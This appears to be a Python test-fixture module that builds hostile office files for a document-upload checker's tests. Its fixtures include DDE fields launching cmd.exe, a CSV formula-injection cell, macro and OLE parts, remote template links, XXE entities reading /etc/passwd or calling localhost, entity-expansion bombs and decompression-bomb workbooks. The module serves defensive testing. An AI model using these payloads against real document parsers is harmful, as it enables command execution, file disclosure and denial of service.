"""Office documents that act, fetch or read files when opened (T43, T47), and huge ones (T41)."""

import io
import zipfile
from collections.abc import Callable

import xlsxwriter

from tests.hostile_files.archives import docx

RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _relations(kind: str, target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    return (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def _field(*runs: str) -> bytes:
    texts = "".join(f"<w:r><w:instrText>{run}</w:instrText></w:r>" for run in runs)
    return f'<w:document xmlns:w="urn:w"><w:body><w:p>{texts}</w:p></w:body></w:document>'.encode()


def _xlsx(parts: dict[str, bytes]) -> bytes:
    return docx(parts, body=b"<workbook/>", member="xl/workbook.xml")


_RELS = "word/_rels/document.xml.rels"
_OLD = (
    b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + b"\x3e\0\x03\0\xfe\xff\x09\0" + b"\0" * 2000
)

#: Name -> bytes: macros, links and commands. Every one is refused.
ACTING: dict[str, Callable[[], bytes]] = {
    "macro.docx": lambda: docx({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "kieu-macro.docx": lambda: repacked(
        docx(),
        "[Content_Types].xml",
        b'<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled"/></Types>',
    ),
    "macro.xlsx": lambda: _xlsx({"xl/vbaProject.bin": b"x"}),
    "macro-excel-4.xlsx": lambda: _xlsx({"xl/macrosheets/sheet1.xml": b"<a/>"}),
    "mau-tu-xa.docx": lambda: docx(
        {
            "word/_rels/settings.xml.rels": _relations(
                "attachedTemplate", "https://may.example/m.dotm"
            )
        }
    ),
    "dde.docx": lambda: docx(body=_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')),
    "dde-nhieu-doan.docx": lambda: docx(body=_field("D", "DEA", "UTO cmd")),
    "dde.xlsx": lambda: _xlsx(
        {
            "xl/externalLinks/externalLink1.xml": (
                b'<externalLink><ddeLink ddeService="cmd"/></externalLink>'
            )
        }
    ),
    "ole.docx": lambda: docx({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "ole-tu-xa.docx": lambda: docx({_RELS: _relations("oleObject", "\\\\may\\tep.doc")}),
    "activex.docx": lambda: docx({"word/activeX/activeX1.bin": b"x"}),
    "chua-html.docx": lambda: docx({"word/afchunk.html": b"<script>alert(1)</script>"}),
    "macro.odt": lambda: docx({"Basic/Standard/Module1.xml": b"<a/>"}, member="content.xml"),
    "macro.doc": lambda: _OLD + "_VBA_PROJECT".encode("utf-16-le") + b"\0" * 600,
    "macro-excel-4.xls": lambda: (
        _OLD + b"\x85\x00\x0e\x00\x00\x01\x00\x00\x00\x01\x06\x00Macro1" + b"\0" * 600
    ),
}

#: Name -> bytes: accepted, but told to whoever reads them.
TELLING: dict[str, Callable[[], bytes]] = {
    "du-lieu-ngoai.xlsx": lambda: _xlsx({"xl/connections.xml": b"<connections/>"}),
    "lien-ket-so.xlsx": lambda: _xlsx(
        {
            "xl/externalLinks/externalLink1.xml": b"<externalLink><externalBook/></externalLink>",
            "xl/externalLinks/_rels/externalLink1.xml.rels": _relations(
                "externalLinkPath", "file:///C:/so.xlsx"
            ),
        }
    ),
    "hinh-tu-xa.docx": lambda: docx({_RELS: _relations("image", "https://may.example/anh.png")}),
    "bang-nhung.docx": lambda: docx(
        {"word/embeddings/Microsoft_Excel_Sheet1.xlsx": b"PK\x03\x04x"}
    ),
    "cong-thuc.csv": lambda: b"ten,so\nA,=cmd|' /C calc'!A0\n",
    "nhi-phan-cu.doc": lambda: _OLD,
}

#: Document types that read files or grow, in the encodings in which they hide.
DOCUMENT_TYPES = {
    "tep": '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
    "mang": '<!DOCTYPE a [<!ENTITY x SYSTEM "http://127.0.0.1:1/x">]><a>&x;</a>',
    "tham-so": '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://127.0.0.1:1/x"> %x;]><a/>',
    "ngoai": '<!DOCTYPE a SYSTEM "http://127.0.0.1:1/x.dtd"><a/>',
    "cuoi": "<!DOCTYPE a [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    + "]><a>&a9;</a>",
    "binh-phuong": f"<!DOCTYPE a [<!ENTITY x '{'x' * 50_000}'>]><a>{'&x;' * 50_000}</a>",
}
_PLACES = {
    "docx": lambda xml: docx(body=xml),
    "xlsx": lambda xml: docx({"xl/sharedStrings.xml": xml}, body=b"<a/>", member="xl/workbook.xml"),
    "odt": lambda xml: docx(body=xml, member="content.xml"),
}


def entity_files() -> dict[str, bytes]:
    """24 files whose XML brings a document type (T47): in documents, alone, in other encodings."""
    files = {
        f"{name}.{kind}": place(text.encode())
        for name, text in DOCUMENT_TYPES.items()
        for kind, place in _PLACES.items()
    }
    text = DOCUMENT_TYPES["tep"]
    files |= {
        "utf-16.docx": docx(body=f'<?xml version="1.0" encoding="UTF-16"?>{text}'.encode("utf-16")),
        "utf-7.docx": docx(body=b'<?xml version="1.0" encoding="UTF-7"?>' + text.encode("utf-7")),
        "bo-quan-he.docx": docx({"_rels/.rels": text.encode()}),
        "hinh.svg": text.encode(),
        "du-lieu.xml": text.encode(),
        "van-ban-ky.xml": f'<Signature xmlns="urn:s">{text}</Signature>'.encode(),
    }
    return files


def wide_workbook(columns: int, rows: int) -> bytes:
    """A workbook of so many cells."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"constant_memory": True})
    sheet = book.add_worksheet()
    for row in range(rows):
        sheet.write_row(row, 0, [row] * columns)
    book.close()
    return buffer.getvalue()


def swollen_workbook() -> bytes:
    """A quarter of a megabyte that unpacks to a hundred (T41)."""
    row = b'<row><c t="n"><v>1</v></c></row>'
    return docx(
        {"xl/worksheets/sheet1.xml": b"<worksheet><sheetData>" + row * 3_000_000
         + b"</sheetData></worksheet>"},
        body=b"<workbook/>", member="xl/workbook.xml",
    )  # fmt: skip


def many_texts() -> bytes:
    """A workbook that holds a million shared texts or promises them."""
    return docx(
        {"xl/sharedStrings.xml": b'<sst count="4000000000" uniqueCount="4000000000">'
         + b"<si><t>x</t></si>" * 1_000_000 + b"</sst>"},
        body=b"<workbook/>", member="xl/workbook.xml",
    )  # fmt: skip


def many_styles() -> bytes:
    """A workbook of a million styles."""
    return docx(
        {"xl/styles.xml": b"<styleSheet><cellXfs>" + b"<xf/>" * 1_000_000
         + b"</cellXfs></styleSheet>"},
        body=b"<workbook/>", member="xl/workbook.xml",
    )  # fmt: skip


def repacked(content: bytes, part: str, text: bytes) -> bytes:
    """The archive with one part in the place of another."""
    source, target = io.BytesIO(content), io.BytesIO()
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, text if name == part else old.read(name))
    return target.getvalue()
